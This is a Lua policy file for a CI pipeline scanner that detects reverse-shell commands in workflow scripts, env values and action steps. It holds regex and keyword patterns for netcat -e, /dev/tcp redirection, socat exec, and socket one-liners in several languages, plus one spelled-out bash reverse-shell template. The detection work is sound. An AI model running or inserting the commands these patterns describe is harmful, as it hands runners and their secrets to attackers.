-- pipeline/reverse-shell: a script in a workflow or action opens a shell
-- for a remote host (netcat -e, bash -i >& /dev/tcp/..., a mkfifo pipe into
-- nc, socat exec:, Python/Perl/Ruby/PHP/Node/PowerShell socket one-liners).
-- Nothing legitimate in CI needs one; it is how a planted workflow change or
-- a poisoned build step hands the runner, its secrets and the GITHUB_TOKEN
-- to an attacker (checkov's CKV_GHA_4 looks for a few of these).
--
-- Scanned: `run:` scripts, every `with:` and `env:` value (payloads are
-- often parked there and eval'ed), composite and Docker action steps,
-- entrypoints and args. One finding per pattern and line, at the line where
-- the command starts (inside a heredoc, the line of the call).

local P = mlgate.pipeline

-- Regular-expression detectors: {name, cheap tokens (any must occur),
-- PCRE pattern, confidence, what}.
local RE_DETECTORS = {
  {"netcat-exec", {"nc", "netcat"},
   [[\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\.exe)?\s[^\n|;&]*?(?:(?<!\S)-[a-zA-Z]*[ec]\s+['"]?(?:\S*/)?(?:ba|z|da|k|c|tc)?sh\b|(?<!\S)-[a-zA-Z]*e\s+['"]?\S*(?:cmd|powershell|pwsh|python[23]?|perl)(?:\.exe)?\b|--(?:sh-|lua-)?exec\b)]],
   "high", "netcat started with -e/-c/--exec, which connects a shell to the remote end"},
  {"dev-tcp-interactive", {"/dev/tcp/", "/dev/udp/"},
   [[\b(?:ba|z|k|da)?sh\s+(?:-[a-zA-Z]+\s+)*-[a-zA-Z]*i\b[^\n]*?/dev/(?:tcp|udp)/]],
   "high", "an interactive shell whose input and output go to a /dev/tcp socket"},
  {"dev-tcp-dup", {"/dev/tcp/", "/dev/udp/"},
   [[/dev/(?:tcp|udp)/[^\s/]+/\d+[^\n]*?(?:\b0\s*[<>]&\s*1\b|<&\s*\d+\s*>&\s*\d+)]],
   "high", "a /dev/tcp socket duplicated onto the shell's standard input and output"},
  {"dev-tcp-exec-fd", {"/dev/tcp/", "/dev/udp/"},
   [[\bexec\s+\d+\s*<>\s*/dev/(?:tcp|udp)/(?!localhost/|127\.|0\.0\.0\.0/|\[?::1)]],
   "medium", "a read-write file descriptor on a /dev/tcp socket to a remote host, the core of a bash reverse shell"},
  {"shell-pipe-netcat", {"nc", "telnet", "s_client", "netcat"},
   [[\b(?:ba|z|k|da)?sh\s+(?:-[a-zA-Z]+\s+)*-[a-zA-Z]*i\b[^\n]*?\|\s*(?:\S*/)?(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b]],
   "high", "an interactive shell piped into a network client (the mkfifo reverse shell)"},
  {"netcat-pipe-shell", {"nc", "telnet", "s_client", "netcat"},
   [[\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b[^\n|;&]*\|\s*(?:\S*/)?(?:ba|z|k|da)?sh\b[^\n]*?\|\s*(?:\S*/)?(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b]],
   "high", "commands read from a network client, run by a shell, and sent back"},
  {"socat-exec", {"socat", "SOCAT"},
   [[(?i)\bsocat\b[^\n]*?(?:\b(?:exec|system):[^\n]*?\b(?:tcp[46]?|tcp[46]?-connect|openssl|ssl|udp)(?:-connect)?:|\b(?:tcp[46]?|openssl|ssl|udp)(?:-connect)?:[^\n]*?\b(?:exec|system):)]],
   "high", "socat connecting a remote socket to a program"},
  {"awk-inet", {"/inet/tcp/", "/inet/udp/"},
   [[/inet/(?:tcp|udp)/\d+/[^/\s"']+/\d+]],
   "medium", "gawk's /inet network special file, used for awk reverse shells"},
  {"xterm-display", {"xterm"},
   [[\bxterm\b[^\n]*-display\s+\d{1,3}(?:\.\d{1,3}){3}:\d]],
   "medium", "an xterm displayed on a remote X server"},
}

-- Window detectors for multi-token one-liners and heredoc bodies: an
-- anchor, then every group of the list must match within `span` bytes.
local WINDOW_DETECTORS = {
  {"python-socket", "socket.socket(", 1200, false,
   {{".connect("}, {"dup2(", "pty.spawn(", "subprocess.call(", "subprocess.Popen(", "subprocess.run(",
     "os.system(", "os.popen(", "check_output("}},
   "Python opening a socket to a remote host and attaching a shell to it"},
  {"python-socket-short", "s=socket(", 1200, false,
   {{".connect("}, {"dup2(", "pty.spawn(", "subprocess"}},
   "Python opening a socket to a remote host and attaching a shell to it"},
  {"perl-socket", "socket(", 800, false,
   {{"perl", "use Socket", "IO::Socket"}, {"exec(", "exec ", "system(", "open(STDIN"}, {"connect("}},
   "Perl connecting a socket and running a shell on it"},
  {"perl-io-socket", "IO::Socket::INET", 800, false,
   {{"exec", "system", "open(STDIN", "<$"}, {"PeerAddr", "->new("}},
   "Perl connecting a socket and running a shell on it"},
  {"ruby-socket", "TCPSocket", 800, false,
   {{".open(", ".new("}, {"exec", "spawn(", "IO.popen", "system(", "%x"}},
   "Ruby connecting a TCP socket and running a shell on it"},
  {"php-fsockopen", "fsockopen(", 800, false,
   {{"exec(", "shell_exec(", "system(", "passthru(", "proc_open(", "popen("}},
   "PHP connecting a socket and running a shell on it"},
  {"powershell-tcpclient", "sockets.tcpclient(", 1500, true,
   {{"getstream("}, {"iex", "invoke-expression", "out-string"}},
   "PowerShell connecting a TCP client and executing what it reads"},
  {"node-socket", "child_process", 1200, false,
   {{"net.Socket", "require('net')", "require(\"net\")", "net.connect(", ".connect("},
    {"spawn(", "exec("}, {"sh", "cmd.exe", "bash"}},
   "Node.js connecting a socket and piping it into a shell"},
  {"lua-socket", "socket.tcp(", 800, false,
   {{"connect("}, {"io.popen(", "os.execute("}},
   "Lua connecting a socket and running commands from it"},
}

local function text_of(v) return type(v) == "table" and v.text or v end

local function has_any(s, list, ci)
  for _, t in ipairs(list) do
    if ci then
      if s:find(t:lower(), 1, true) then return true end
    elseif s:find(t, 1, true) then
      return true
    end
  end
  return false
end

local compiled = {} -- detector name -> compiled regex (false: did not compile)

-- Hits in one string: list of {offset (0-based), name, confidence, what}.
local function scan(text)
  local hits = {}
  for _, d in ipairs(RE_DETECTORS) do
    if has_any(text, d[2]) then
      local re = compiled[d[1]]
      if re == nil then
        local okc, r = pcall(mlgate.re.compile, d[3])
        re = okc and r or false
        if not okc then mlgate.log.warn("reverse-shell: pattern %s: %s", d[1], tostring(r)) end
        compiled[d[1]] = re
      end
      local ok, it = false, nil
      if re then ok, it = pcall(re.gfind, re, text) end
      if ok and it then
        local ok2, err = pcall(function()
          for s in it do hits[#hits + 1] = {offset = s - 1, name = d[1], confidence = d[4], what = d[5]} end
        end)
        if not ok2 then mlgate.log.debug("reverse-shell: %s: %s", d[1], tostring(err)) end
      end
    end
  end
  local ltext
  for _, d in ipairs(WINDOW_DETECTORS) do
    local name, anchor, span, ci, groups, what = d[1], d[2], d[3], d[4], d[5], d[6]
    local hay = text
    if ci then ltext = ltext or text:lower(); hay = ltext end
    local pos = 1
    while true do
      local s = hay:find(anchor, pos, true)
      if not s then break end
      -- the window reaches back a little (imports, `perl -e`) and forward
      local win = hay:sub(math.max(1, s - 200), s + span)
      local all = true
      for _, g in ipairs(groups) do
        if not has_any(win, g, ci) then all = false; break end
      end
      if all then
        hits[#hits + 1] = {offset = s - 1, name = name, confidence = "high", what = what}
        break
      end
      pos = s + #anchor
    end
  end
  return hits
end

-- Quick test, one regex per value: could the text contain any pattern?
local PRECHECK = [[(?i)\b(?:nc|ncat|netcat|telnet|socat|xterm)\b|/dev/(?:tcp|udp)/|/inet/|socket|fsockopen|tcpclient|child_process]]
local precheck

local function maybe(text)
  if type(text) ~= "string" or #text < 6 then return false end
  if precheck == nil then
    local ok, r = pcall(mlgate.re.compile, PRECHECK)
    precheck = ok and r or false
  end
  if not precheck then return true end
  local ok, hit = pcall(precheck.test, precheck, text)
  return not ok or hit
end

return mlgate.policy {
  id = "pipeline/reverse-shell",
  title = "CI scripts must not open reverse shells",
  description = [[
A reverse shell connects out from the runner to a host the attacker
controls and gives them an interactive shell there: every secret of the
job, the GITHUB_TOKEN, cloud credentials from OIDC, the model registry and
Hugging Face tokens of an ML pipeline, the checked-out code and caches, and
on self-hosted GPU runners a foothold in the network. Nothing a build, a
training run or a release needs looks like one, so any match is either an
attack planted in a pull request, a compromised action or script, or a
debugging shortcut that must not stay in a workflow.

Reported in `run:` scripts (any shell), every `with:` and `env:` value,
composite and Docker action steps, entrypoints and args, GitLab CI script
lines and variables (included files too) and Jenkins sh/bat/powershell
steps and environment values: netcat/ncat with
-e/-c/--exec, `bash -i >& /dev/tcp/HOST/PORT 0>&1` and other /dev/tcp
descriptor tricks, an interactive shell piped to nc/telnet/openssl
s_client (the mkfifo variant), socat `exec:`/`system:` with a TCP address,
gawk /inet/tcp, xterm -display to a remote host, and socket one-liners in
Python (socket + connect + dup2/pty.spawn/subprocess), Perl, Ruby, PHP
(fsockopen + exec), Node.js (net + child_process) and PowerShell
(TCPClient + GetStream + iex). The finding points at the line where the
command starts.]],
  remediation = [[
Remove the command and find out how it got there: review the commit or
pull request that added it, rotate every secret the workflow could read
(including the registry and cloud tokens), and check the runner if it is
self-hosted. To debug a job interactively use a short-lived, access-
restricted session that is not committed to the default branch, for
example:

    - uses: mxschmitt/action-tmate@<sha>
      if: ${{ failure() && github.event_name == 'workflow_dispatch' }}
      with:
        limit-access-to-actor: true]],
  gate = "pipeline",
  severity = "high",
  confidence = "high",
  atlas = {"AML.T0072", "AML.T0050", "AML.T0010.001", "AML.T0055"},
  aliases = {"catalog:MAL-REVSHELL", "checkov:CKV_GHA_4"},
  references = {
    "https://attack.mitre.org/techniques/T1059/004/",
    "https://github.com/bridgecrewio/checkov/blob/main/checkov/github_actions/checks/job/ReverseShellNetcat.py",
  },
  files = P.files("github", "action", "gitlab", "jenkins"),

  check = function(file, ctx)
    local m = mlgate.pipeline.load(file.path)
    if not m then return end
    local kind = m.kind
    if kind ~= "workflow" and kind ~= "action" and kind ~= "gitlab-ci" and kind ~= "jenkinsfile" then
      return
    end
    local seen = {}

    -- val: a model value; is_script: a shell script whose command starts
    -- are known to the lexer; where: a description for the message.
    local function check_value(val, is_script, where, route, job_id, step_index, path)
      local text = text_of(val)
      if not maybe(text) then return end
      local hits = scan(text)
      if #hits == 0 then return end
      local cmds
      if is_script then
        local script = mlgate.shell.parse(text)
        cmds = script and script.cmds or {}
      end
      for _, h in ipairs(hits) do
        local off = h.offset
        -- the start of the command holding the match (not inside a heredoc body)
        if cmds then
          local best
          for _, c in ipairs(cmds) do
            local s, e = c.offset or 0, (c.offset or 0) + (c.len or 0)
            if s <= off and off < e and (not best or s >= best) then best = s end
          end
          if best then off = best end
        end
        local line, col = mlgate.pipeline.where(val, off)
        -- A GitLab value may come from an included file.
        local file_path = path or (type(val) == "table" and val.path) or nil
        local k = (file_path or m.path or "") .. ":" .. (line or 0)
        if line and not seen[k] then
          seen[k] = true
          ctx:fail{
            message = ("This %s contains a reverse shell: %s; remove it, find out who added it "
              .. "and rotate the secrets this job could read."):format(where, h.what),
            path = file_path, line = line, column = col,
            confidence = h.confidence,
            key = (route or "") .. ":" .. h.name,
            details = {job = job_id, step = step_index, pattern = h.name},
          }
        end
      end
    end

    local function check_kvs(list, what, route, job_id, step_index)
      for _, kv in ipairs(list or {}) do
        if kv.value then
          check_value(kv.value, false, ("%s value %s"):format(what, tostring(kv.name)),
            route .. "." .. tostring(kv.name), job_id, step_index, kv.path or kv.value.path)
        end
      end
    end

    local function check_step(step, job)
      local job_id = job and job.id
      local route = step.route or ""
      if step.run then
        local what = kind == "gitlab-ci" and "script line"
                     or kind == "jenkinsfile" and (tostring(step.shell) .. " step")
                     or "run: script"
        check_value(step.run, true, what, route .. ".run", job_id, step.index,
          step.path or (job and job.path))
      end
      check_kvs(step.with, "with:", route .. ".with", job_id, step.index)
      check_kvs(step.env, "env:", route .. ".env", job_id, step.index)
    end

    if kind == "gitlab-ci" or kind == "jenkinsfile" then
      -- Variables: the top-level ones once; jobs list inherited entries
      -- again at the same place, which `seen` drops.
      local vars = kind == "gitlab-ci" and "variables:" or "environment"
      check_kvs(m.variables or m.environment, vars, "variables")
      for _, job in ipairs(m.jobs or {}) do
        for _, step in ipairs(job.steps or {}) do check_step(step, job) end
        check_kvs(job.env, vars, (job.route or "") .. ".env", job.id)
      end
    elseif kind == "workflow" then
      check_kvs(m.env, "env:", "env")
      for _, job in ipairs(m.jobs or {}) do
        check_kvs(job.env, "env:", (job.route or "") .. ".env", job.id)
        check_kvs(job.with, "with:", (job.route or "") .. ".with", job.id)
        for _, step in ipairs(job.steps or {}) do check_step(step, job) end
      end
    else
      local runs = m.runs or {}
      for _, step in ipairs(m.steps or runs.steps or {}) do check_step(step, nil) end
      check_kvs(runs.env, "env:", "runs.env")
      if runs.entrypoint then check_value(runs.entrypoint, false, "entrypoint", "runs.entrypoint") end
      for i, a in ipairs(runs.args or {}) do
        check_value(a, false, "argument", "runs.args[" .. (i - 1) .. "]")
      end
    end
  end,
}
